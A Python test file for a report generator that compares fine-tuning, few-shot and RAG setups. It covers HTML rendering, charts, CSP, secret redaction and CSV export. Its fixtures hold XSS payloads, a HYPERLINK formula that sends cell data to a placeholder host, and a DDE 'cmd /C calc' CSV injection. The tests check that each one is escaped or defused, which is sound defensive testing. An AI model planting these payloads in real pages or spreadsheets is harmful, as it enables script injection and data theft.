"""The compare report: rendering, escaping, charts, results.json and items.csv.

The fixtures are built by ``realistic_results`` (the bundled triage eval
items, five arms with internally consistent quality and cost figures, a
tuning job) and ``hostile_results`` (the same with markup and formula
payloads in every string a user or model controls). The browser tests in
``test_report_browser.py`` open the same fixtures in Chromium.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import math
import random
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ftdecide.errors import DataError
from ftdecide.report import _format as fmt
from ftdecide.report._html import ReportFiles, items_csv, render_html, results_json, write_report

EXAMPLE = Path(__file__).resolve().parents[1] / "src" / "ftdecide" / "examples" / "triage"
RPM = 100_000
PRICE = {"in": 0.15, "out": 0.60, "ft_in": 0.30, "ft_out": 1.20}
TRAINING_USD = 3.20
SVG_NS = "{http://www.w3.org/2000/svg}"

# arm: label, model, mean prompt tokens, output tokens, P(category right), P(priority right), tuned
ARMS = {
    "zeroshot": ("zero-shot", "openai/gpt-4o-mini-2024-07-18", 118.0, 16.0, 0.60, 0.35, False),
    "fewshot": ("few-shot", "openai/gpt-4o-mini-2024-07-18", 612.0, 14.0, 0.75, 0.50, False),
    "rag": ("RAG", "openai/gpt-4o-mini-2024-07-18", 934.0, 14.0, 0.80, 0.60, False),
    "finetuned": ("fine-tuned", "openai/ft:gpt-4o-mini-2024-07-18:acme::abc123", 118.0, 12.0, 0.96, 0.90, True),
    "finetuned-rag": ("fine-tuned + RAG", "openai/ft:gpt-4o-mini-2024-07-18:acme::abc123", 934.0, 12.0,
                      0.96, 0.88, True),
}
CATEGORIES = ["billing", "account", "technical", "integration", "security", "data_privacy", "feature_request"]
PRIORITIES = ["low", "medium", "high", "urgent"]

HOSTILE = {
    "script": "<script>window.__pwned = 1; alert(1)</script>",
    "img": '"><img src=x onerror="window.__pwned = 2">',
    "textarea": "</textarea><script>window.__pwned = 3</script>",
    "title": "</title><script>window.__pwned = 4</script>",
    "svg": "<svg onload=\"window.__pwned = 5\"><text>x</text></svg>",
    "style": "</style><script>window.__pwned = 6</script><style>",
    "pre": "</pre><iframe srcdoc=\"<script>parent.__pwned = 7</script>\"></iframe>",
    "jinja": "{{ 7 * 7 }} {% raw %}",
    "formula": '=HYPERLINK("http://example.invalid/?q=" & A1, "click")',
}


def _eval_examples(n: int) -> list[dict]:
    rows = [json.loads(line) for line in (EXAMPLE / "eval.jsonl").read_text().splitlines() if line.strip()]
    out = []
    for i in range(n):
        msgs = rows[i % len(rows)]["messages"]
        out.append({"system": msgs[0]["content"], "input": msgs[-2]["content"], "expected": msgs[-1]["content"]})
    return out


def _answer(expected: dict, rng: random.Random, p_cat: float, p_pri: float, arm: str) -> tuple[str, float]:
    if arm == "zeroshot" and rng.random() < 0.08:
        return f"The ticket is about {expected['category']} and seems {expected['priority']}.", 0.0
    cat = expected["category"] if rng.random() < p_cat else rng.choice([c for c in CATEGORIES if c != expected["category"]])
    pri = expected["priority"] if rng.random() < p_pri else rng.choice([p for p in PRIORITIES if p != expected["priority"]])
    score = ((cat == expected["category"]) + (pri == expected["priority"])) / 2
    return json.dumps({"category": cat, "priority": pri}), score


def _per_1k(tokens_in: float, tokens_out: float, tuned: bool) -> float:
    pin, pout = (PRICE["ft_in"], PRICE["ft_out"]) if tuned else (PRICE["in"], PRICE["out"])
    return 1000 * (tokens_in * pin + tokens_out * pout) / 1e6


def realistic_results(n_items: int = 30, *, seed: int = 7, training: bool = True) -> dict:
    """A results.json mapping (schema 1) whose figures agree with each other."""
    rng = random.Random(seed)
    examples = _eval_examples(n_items)
    items = [{"id": str(i + 1), "input": ex["input"], "expected": ex["expected"], "outputs": {}}
             for i, ex in enumerate(examples)]
    for arm, (label, model, tin, tout, p_cat, p_pri, tuned) in ARMS.items():
        for item in items:
            text, score = _answer(json.loads(item["expected"]), rng, p_cat, p_pri, arm)
            item["outputs"][arm] = {"text": text, "score": score, "cached": arm == "zeroshot", "error": None}
    base_cost = _per_1k(ARMS["fewshot"][2], ARMS["fewshot"][3], False) / 1000
    base_scores = [it["outputs"]["fewshot"]["score"] for it in items]
    arms = {}
    for arm, (label, model, tin, tout, p_cat, p_pri, tuned) in ARMS.items():
        scores = [it["outputs"][arm]["score"] for it in items]
        mean = sum(scores) / len(scores)
        half = 1.96 * (sum((s - mean) ** 2 for s in scores) / len(scores) / len(scores)) ** 0.5
        per_1k = _per_1k(tin, tout, tuned)
        training_usd = TRAINING_USD if tuned else 0.0
        fixed = training_usd / 12
        saving = base_cost - per_1k / 1000
        break_even = None if not tuned else (round(fixed / saving) if saving > 0 else None)
        diffs = [a - b for a, b in zip(scores, base_scores)]
        d = sum(diffs) / len(diffs)
        dhalf = 1.96 * (sum((x - d) ** 2 for x in diffs) / len(diffs) / len(diffs)) ** 0.5
        arms[arm] = {
            "label": label, "model": model,
            "quality": {"metric": "json-fields", "mean": mean, "ci_low": max(0.0, mean - half),
                        "ci_high": min(1.0, mean + half), "n": len(scores),
                        "unparseable": sum(1 for it in items if not it["outputs"][arm]["text"].startswith("{"))},
            "vs_baseline": None if arm == "fewshot" else {
                "diff": d, "ci_low": d - dhalf, "ci_high": d + dhalf,
                "p_value": math.erfc(abs(d) / (dhalf / 1.96) / 2 ** 0.5) if dhalf else 1.0,
                "test": "paired bootstrap"},
            "tokens": {"input_mean": tin, "output_mean": tout},
            "cost_per_1k_usd": per_1k,
            "monthly_cost_usd": per_1k / 1000 * RPM,
            "economics": {
                "training_cost_usd": training_usd, "training_cost_kind": "actual" if tuned else None,
                "hosting_per_month_usd": 0.0, "amortisation_months": 12 if tuned else None,
                "monthly_total_usd": per_1k / 1000 * RPM + fixed,
                "break_even_requests_per_month": break_even,
                "break_even_reason": None if break_even or not tuned else "never: costs more per request",
            },
            "latency_p50_s": 0.38 + 0.1 * tuned, "latency_p95_s": 0.92 + 0.2 * tuned,
            "calls": len(items), "cached_calls": len(items) if arm == "zeroshot" else 0, "errors": 0,
            "prompt": {
                "description": {"zeroshot": "system + input", "fewshot": "system + 4 training examples as prior turns + input",
                                "rag": "system + 3 retrieved passages + input", "finetuned": "system + input (tuned model)",
                                "finetuned-rag": "system + 3 retrieved passages + input (tuned model)"}[arm],
                "example": _prompt(arm, examples[0]),
                "input_tokens_example": int(tin),
            },
        }
    fine = arms["finetuned"]
    results = {
        "schema": 1,
        "run_id": "cmp-20261128-ab12cd",
        "created": "2026-11-28T09:10:00+00:00",
        "status": "complete",
        "task": {"name": "triage", "description": "Support-ticket triage for Northwind Cloud."},
        "metric": {"name": "json-fields", "binary": False,
                   "description": "F1 over JSON fields; unparseable answers score 0"},
        "baseline": "fewshot",
        "requests_per_month": RPM,
        "verdict": (f"fine-tuned: {fmt.points(fine['vs_baseline']['diff'], signed=True)} points over few-shot, "
                    f"81 % fewer prompt tokens, pays back its $3.20 training at "
                    f"{fine['economics']['break_even_requests_per_month']:,} requests/month"),
        "arms": arms,
        "items": items,
        "prices": [
            {"model": "openai/gpt-4o-mini-2024-07-18", "input_per_1m": 0.15, "output_per_1m": 0.6,
             "as_of": "2026-11-01", "source": "reference/providers.md §3"},
            {"model": "openai/ft:gpt-4o-mini-2024-07-18", "input_per_1m": 0.30, "output_per_1m": 1.2,
             "as_of": "2026-03-01", "source": "ftdecide-openai catalog"},
        ],
        "provenance": {
            "ftdecide_version": "0.1.0", "python": "3.11.9", "platform": "Linux-x86_64",
            "plugins": {"ftdecide-openai": "0.1.0", "ftdecide-hf-trl": "0.1.0"},
            "command": "ftdecide compare --config compare.yaml",
            "config": {"train": "train.jsonl", "eval": "eval.jsonl", "corpus": "corpus", "model": "gpt-4o-mini-2024-07-18",
                       "arms": list(ARMS), "baseline": "fewshot", "shots": 4, "seed": 7,
                       "requests_per_month": RPM, "metric": "json-fields", "api_key": "sk-test-SECRET-0123456789"},
            "data": {"train": {"path": "train.jsonl", "sha256": "a" * 64, "examples": 400},
                     "eval": {"path": "eval.jsonl", "sha256": "b" * 64, "examples": n_items},
                     "corpus": {"path": "corpus", "sha256": "c" * 64, "documents": 11}},
        },
    }
    if training:
        results["training"] = {
            "job_id": "ftjob-abc123", "provider": "openai", "base_model": "openai/gpt-4o-mini-2024-07-18",
            "model": fine["model"], "estimated_cost_usd": 3.1, "actual_cost_usd": TRAINING_USD,
            "wall_s": 1260.0, "tokens_per_s": None,
            "loss_curve": [{"step": s, "train_loss": 2.2 * 0.93 ** s + 0.25 + 0.03 * ((s * 7) % 5) / 5,
                            "valid_loss": (2.3 * 0.93 ** s + 0.31) if s % 10 == 0 else None}
                           for s in range(1, 121)],
        }
    return results


def _prompt(arm: str, ex: dict) -> list[dict]:
    msgs = [{"role": "system", "content": ex["system"]}]
    if arm == "fewshot":
        for shot in _eval_examples(5)[1:]:
            msgs += [{"role": "user", "content": shot["input"]}, {"role": "assistant", "content": shot["expected"]}]
    if arm in ("rag", "finetuned-rag"):
        msgs[0] = {"role": "system", "content": ex["system"] + "\n\nContext:\n"
                   + (EXAMPLE / "corpus" / "priority-rules.md").read_text()[:600]}
    return msgs + [{"role": "user", "content": ex["input"]}]


def hostile_results() -> dict:
    """The realistic fixture with markup in everything a user or a model wrote."""
    r = realistic_results(12, seed=3)
    payloads = list(HOSTILE.values())
    r["task"] = {"name": HOSTILE["title"], "description": HOSTILE["style"]}
    r["verdict"] = HOSTILE["script"]
    r["metric"]["description"] = HOSTILE["img"]
    for i, (key, arm) in enumerate(r["arms"].items()):
        arm["label"] = f"{key} {HOSTILE['img'] if i % 2 else HOSTILE['svg']}"
        arm["model"] = HOSTILE["textarea"]
        arm["prompt"]["description"] = HOSTILE["pre"]
        arm["prompt"]["example"] = [{"role": "system", "content": HOSTILE["textarea"]},
                                    {"role": HOSTILE["img"], "content": HOSTILE["script"]}]
        arm["economics"]["break_even_reason"] = HOSTILE["svg"]
    for i, item in enumerate(r["items"]):
        item["id"] = HOSTILE["img"] if i == 0 else str(i + 1)
        item["input"] = payloads[i % len(payloads)]
        item["expected"] = payloads[(i + 1) % len(payloads)]
        for j, out in enumerate(item["outputs"].values()):
            out["text"] = payloads[(i + j + 2) % len(payloads)]
        if i == 1:
            item["outputs"]["rag"]["error"] = HOSTILE["script"]
    r["prices"][0]["source"] = HOSTILE["img"]
    r["prices"][0]["model"] = HOSTILE["pre"]
    r["provenance"]["command"] = HOSTILE["title"]
    r["provenance"]["config"]["metric"] = HOSTILE["textarea"]
    r["provenance"]["config"][HOSTILE["script"]] = HOSTILE["svg"]
    r["provenance"]["plugins"] = {HOSTILE["img"]: HOSTILE["script"]}
    r["provenance"]["data"]["train"]["path"] = HOSTILE["pre"]
    return r


# --------------------------------------------------------------------------- helpers


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.event_attrs: list[tuple[str, str]] = []
        self.data: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.event_attrs += [(tag, k) for k, _ in attrs if k.lower().startswith("on")]

    def handle_data(self, data):
        self.data.append(data)


def _parse(html: str) -> _Tags:
    p = _Tags()
    p.feed(html)
    return p


def _svgs(html: str) -> list[ET.Element]:
    return [ET.fromstring(m) for m in re.findall(r"<svg\b.*?</svg>", html, flags=re.S)]


def _sha(text: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def _polyline(svg: ET.Element, colour: str) -> list[tuple[float, float]]:
    for el in svg.iter(SVG_NS + "polyline"):
        if el.get("stroke") == colour:
            return [tuple(map(float, p.split(","))) for p in el.get("points").split()]
    raise AssertionError(f"no line in {colour}")


def _y_at(line: list[tuple[float, float]], x: float) -> float:
    for (x0, y0), (x1, y1) in zip(line, line[1:]):
        if x0 <= x <= x1:
            return y0 + (y1 - y0) * (x - x0) / (x1 - x0)
    raise AssertionError(f"x={x} outside the line")


# --------------------------------------------------------------------------- rendering


def test_report_has_every_section_and_the_three_charts():
    html = render_html(realistic_results())
    for section in ("verdict", "arms", "charts", "items", "prompts", "provenance"):
        assert f'<section id="{section}"' in html
    assert html.index('id="verdict"') < html.index('id="arms"')  # the verdict comes first
    svgs = _svgs(html)
    assert [s.get("id") for s in svgs] == ["chart-quality-cost", "chart-monthly-cost", "chart-loss"]
    for s in svgs:  # every chart titled, described and labelled for screen readers
        assert s.get("role") == "img"
        assert s.find(SVG_NS + "title").text and s.find(SVG_NS + "desc").text
        assert s.get("aria-labelledby") == f"{s.get('id')}-title {s.get('id')}-desc"
    # the arms table: five rows in the results' order, the baseline marked
    rows = re.findall(r'<tr class="arm( baseline)?" data-arm="([^"]+)"', html)
    assert [r[1] for r in rows] == list(ARMS)
    assert [r[1] for r in rows if r[0]] == ["fewshot"]
    assert html.count('<article class="item"') == 30


def test_figures_are_formatted_from_the_results():
    r = realistic_results()
    html = render_html(r)
    fine = r["arms"]["finetuned"]
    row = html[html.index('data-arm="finetuned"'):html.index('data-arm="finetuned-rag"')]
    assert fmt.points(fine["quality"]["mean"]) in row
    assert fmt.interval(fine["quality"]["ci_low"], fine["quality"]["ci_high"]) in row
    assert fmt.points(fine["vs_baseline"]["diff"], signed=True) in row
    assert "p &lt; 0.001" in row
    assert "$0.05" in row  # 118 × $0.30/1M + 12 × $1.20/1M = $0.0498 per 1,000 requests
    assert f"{fine['economics']['break_even_requests_per_month']:,}/mo" in row
    assert "+ training $3.20 / 12 mo" in row and "training cost (actual), spread over 12 months" in row
    assert "118.0 / 12.0" in row


def test_csp_allows_exactly_the_inline_style_and_script():
    html = render_html(realistic_results())
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    csp = csp.replace("&#39;", "'")
    style = re.search(r"<style>(.*?)</style>", html, re.S).group(1)
    script = re.search(r"<script>(.*?)</script>", html, re.S).group(1)
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["style-src"] == f"'{_sha(style)}'"
    assert directives["script-src"] == f"'{_sha(script)}'"
    assert "unsafe-inline" not in csp and "http" not in csp
    # nothing on the page points at the network
    assert not re.search(r'(src|href)="(?!#)', html)


def test_hostile_strings_are_escaped_everywhere():
    r = hostile_results()
    html = render_html(r)
    parsed = _parse(html)
    assert parsed.tags.count("script") == 1  # ours
    assert parsed.tags.count("style") == 1
    for tag in ("img", "iframe", "textarea"):
        assert tag not in parsed.tags
    assert parsed.tags.count("svg") == 3  # the charts, none injected
    assert parsed.tags.count("title") == 4  # the page's and one per chart
    assert parsed.event_attrs == []
    text = "".join(parsed.data)
    for payload in HOSTILE.values():
        if any(c in payload for c in "<>&\""):
            assert payload not in html  # never raw
        assert payload in text  # but shown, as text
    # the SVG labels are escaped too, and the charts are still well-formed XML
    for svg in _svgs(html):
        labels = "".join(svg.itertext())
        assert "<svg" not in "".join(e.tag for e in svg.iter() if e is not svg)
        if svg.get("id") != "chart-loss":
            assert HOSTILE["img"] in labels


def test_secrets_in_the_config_are_redacted(tmp_path):
    r = realistic_results()
    files = write_report(r, tmp_path)
    for path in (files.html, files.results_json, files.items_csv):
        assert "sk-test-SECRET" not in path.read_text()
    assert "redacted" in json.loads(files.results_json.read_text())["provenance"]["config"]["api_key"]
    assert r["provenance"]["config"]["api_key"].startswith("sk-")  # the caller's mapping is untouched


def test_stale_prices_are_flagged():
    html = render_html(realistic_results())
    rows = re.findall(r"<tr( class=\"stale\")?><td class=\"mono\">([^<]+)</td>", html)
    assert rows == [("", "openai/gpt-4o-mini-2024-07-18"), (' class="stale"', "openai/ft:gpt-4o-mini-2024-07-18")]
    assert "stale: 272 days old" in html  # 2026-03-01 → 2026-11-28


def test_partial_run_and_missing_outputs_are_shown():
    r = realistic_results(6, training=False)
    r["status"] = "partial"
    del r["items"][5]["outputs"]["finetuned"]
    r["items"][4]["outputs"]["rag"] = {"text": None, "score": None, "cached": False, "error": "HTTP 500 after 3 retries"}
    r["items"][3]["outputs"]["zeroshot"]["score"] = "n/a"  # not a number: shown as an error, no crash
    html = render_html(r)
    assert html.count('<li class="out error"') == 2 and html.count('<li class="out missing"') == 1
    assert "Partial run (partial)" in html and "--resume cmp-20261128-ab12cd" in html
    assert "no answer recorded" in html and "HTTP 500 after 3 retries" in html
    assert [s.get("id") for s in _svgs(html)] == ["chart-quality-cost", "chart-monthly-cost"]
    r["training"] = {"job_id": "j1", "loss_curve": []}
    assert "reported no loss curve" in render_html(r)


def test_filter_flags_match_the_scores():
    r = realistic_results()
    html = render_html(r)
    flags = re.findall(r'<article class="item" id="item-(\d+)" data-wrong="(\d)" data-disagree="(\d)"', html)
    assert len(flags) == 30
    for (n, wrong, disagree), item in zip(flags, r["items"]):
        scores = [o["score"] for o in item["outputs"].values()]
        assert wrong == str(int(any(s < 1 for s in scores)))
        assert disagree == str(int(len(set(scores)) > 1))
    assert {w for _, w, _ in flags} == {"0", "1"} and {d for _, _, d in flags} == {"0", "1"}


# --------------------------------------------------------------------------- charts


def test_break_even_markers_sit_where_the_lines_cross_the_baseline():
    from ftdecide.report._charts import PALETTE

    r = realistic_results()
    svg = next(s for s in _svgs(render_html(r)) if s.get("id") == "chart-monthly-cost")
    baseline = _polyline(svg, PALETTE[1])  # fewshot, second arm
    markers = [(float(c.get("cx")), float(c.get("cy")), c.get("stroke"))
               for c in svg.iter(SVG_NS + "circle") if c.get("class") == "break-even"]
    tuned = [a for a in ARMS if r["arms"][a]["economics"]["break_even_requests_per_month"]]
    assert len(markers) == len(tuned) == 1  # fine-tuned pays back; fine-tuned + RAG never does
    for cx, cy, colour in markers:
        assert abs(_y_at(baseline, cx) - cy) < 1.5
        assert abs(_y_at(_polyline(svg, colour), cx) - cy) < 1.5
    text = "".join(svg.itertext())
    assert "log scale" in text  # break-even (~5.3k) and 100k/month are far apart
    assert "your volume: 100k/month" in text


def test_quality_chart_orders_points_and_draws_intervals():
    r = realistic_results()
    svg = _svgs(render_html(r))[0]
    # one vertical interval bar per arm, its length proportional to the interval
    bars = [(float(e.get("y1")), float(e.get("y2"))) for e in svg.iter(SVG_NS + "line")
            if e.get("stroke", "").startswith("#") and e.get("stroke") not in ("#e3e3e3", "#333", "#666")
            and e.get("x1") == e.get("x2")]
    assert len(bars) == 5
    widths = [r["arms"][a]["quality"]["ci_high"] - r["arms"][a]["quality"]["ci_low"] for a in ARMS]
    ratios = [abs(b[0] - b[1]) / w for b, w in zip(bars, widths)]
    assert max(ratios) - min(ratios) < 0.02 * max(ratios)
    labels = [t.text for t in svg.iter(SVG_NS + "text")]
    assert "few-shot (baseline)" in labels and "baseline quality" in labels


def test_axis_choice_follows_the_data():
    from ftdecide.report._charts import monthly_cost, quality_vs_cost

    r = realistic_results(8, training=False)
    for arm in r["arms"].values():
        arm["economics"]["break_even_requests_per_month"] = None
    # only the run's volume to show: a linear volume axis from 0
    text = "".join(ET.fromstring(monthly_cost(r).svg).itertext())
    assert "log scale" not in text and "requests per month" in text
    # costs 0.0498..0.228 per 1k are within 20×: linear cost axis
    assert "log scale" not in "".join(ET.fromstring(quality_vs_cost(r).svg).itertext())
    r["arms"]["rag"]["cost_per_1k_usd"] = 12.0
    assert "log scale" in "".join(ET.fromstring(quality_vs_cost(r).svg).itertext())
    # an arm without a price is left out and named in the caption
    r["arms"]["rag"]["cost_per_1k_usd"] = None
    chart = quality_vs_cost(r)
    assert "Not plotted (no price or no score): RAG." in chart.caption


def test_all_zero_costs_still_draw():
    from ftdecide.report._charts import monthly_cost, quality_vs_cost

    r = realistic_results(5, training=False)
    for arm in r["arms"].values():
        arm.update(cost_per_1k_usd=0.0, monthly_cost_usd=0.0)
        arm["economics"].update(monthly_total_usd=0.0, training_cost_usd=0.0, break_even_requests_per_month=None)
    for chart in (quality_vs_cost(r), monthly_cost(r)):
        ET.fromstring(chart.svg)
        assert "nan" not in chart.svg.lower()


# --------------------------------------------------------------------------- files


def test_write_report_writes_three_files_and_rerenders_identically(tmp_path):
    r = realistic_results()
    files = write_report(r, tmp_path / "out")
    assert isinstance(files, ReportFiles)
    assert {p.name for p in (tmp_path / "out").iterdir()} == {"report.html", "results.json", "items.csv"}
    stored = json.loads(files.results_json.read_text())
    assert list(stored["arms"]) == list(ARMS)  # display order kept
    assert list(stored["items"][0]["outputs"]) == list(ARMS)
    assert list(stored) == sorted(stored)  # everything else sorted
    assert list(stored["arms"]["rag"]) == sorted(stored["arms"]["rag"])
    # `ftdecide report RUN` re-renders from results.json: the same page, byte for byte
    assert render_html(stored) == files.html.read_text()
    write_report(stored, tmp_path / "again")
    assert (tmp_path / "again" / "results.json").read_text() == files.results_json.read_text()


def test_results_json_has_no_nan():
    r = realistic_results(5)
    r["arms"]["rag"]["vs_baseline"]["p_value"] = float("nan")
    assert json.loads(results_json(r))["arms"]["rag"]["vs_baseline"]["p_value"] is None


def test_items_csv_has_one_row_per_item_and_defuses_formulas():
    r = hostile_results()
    r["items"][2]["input"] = "-1 + 2"
    r["items"][3]["expected"] = "@SUM(A1)"
    r["items"][4]["outputs"]["rag"]["text"] = "+cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(items_csv(r))))
    assert rows[0] == ["id", "input", "expected"] + [f"{a}_{c}" for a in ARMS for c in ("output", "score")]
    assert len(rows) == 1 + len(r["items"])
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert rows[3][1] == "'-1 + 2" and rows[4][2] == "'@SUM(A1)"
    assert rows[5][3 + 2 * list(ARMS).index("rag")] == "'+cmd|' /C calc'!A0"
    assert "'" + HOSTILE["formula"] in cells
    # everything else exactly as written, scores as numbers
    assert rows[1][0] == r["items"][0]["id"] and rows[2][1] == r["items"][1]["input"]
    for row, item in zip(rows[1:], r["items"]):
        for k, arm in enumerate(ARMS):
            assert float(row[4 + 2 * k]) == item["outputs"][arm]["score"]


def test_bad_results_name_the_key():
    r = realistic_results(3)
    del r["arms"]["rag"]["quality"]
    with pytest.raises(DataError, match=r"missing key arms\.rag\.quality"):
        render_html(r)
    r = realistic_results(3)
    r["baseline"] = "nope"
    with pytest.raises(DataError, match="baseline 'nope' is not one of the arms"):
        render_html(r)
    with pytest.raises(DataError, match="schema 2 is not supported"):
        render_html({**realistic_results(3), "schema": 2})


def test_bad_results_write_nothing(tmp_path):
    r = realistic_results(3)
    del r["items"]
    with pytest.raises(DataError, match="missing key items"):
        write_report(r, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- formatting


@pytest.mark.parametrize("value,text", [(0, "$0"), (0.0031, "$0.0031"), (0.031, "$0.031"), (0.42, "$0.42"),
                                        (3.2, "$3.20"), (1234.4, "$1,234"), (0.0999, "$0.10"),
                                        (0.000012, "$0.000012"), (-0.05, "−$0.05"), (None, "–"),
                                        (float("nan"), "–"), (999.999, "$1,000")])
def test_money(value, text):
    assert fmt.money(value) == text


@pytest.mark.parametrize("value,signed,text", [(0.412, False, "41.2"), (0.12, True, "+12.0"),
                                               (-0.12, True, "−12.0"), (-0.0001, True, "0.0"),
                                               (1.0, False, "100.0"), (None, False, "–")])
def test_points(value, signed, text):
    assert fmt.points(value, signed=signed) == text


def test_small_formats():
    assert fmt.interval(0.061, 0.179) == "[6.1, 17.9]"
    assert fmt.p_value(0.0004) == "p < 0.001" and fmt.p_value(0.012) == "p = 0.012"
    assert fmt.p_value(0.34) == "p = 0.34"
    assert fmt.volume(41_000) == "41k" and fmt.volume(1_500_000) == "1.5M" and fmt.volume(950) == "950"
    assert fmt.seconds(0.012) == "12 ms" and fmt.seconds(0.42) == "0.42 s" and fmt.seconds(529) == "529 s"
    assert fmt.count(41000.0) == "41,000" and fmt.number(180.46) == "180.5"
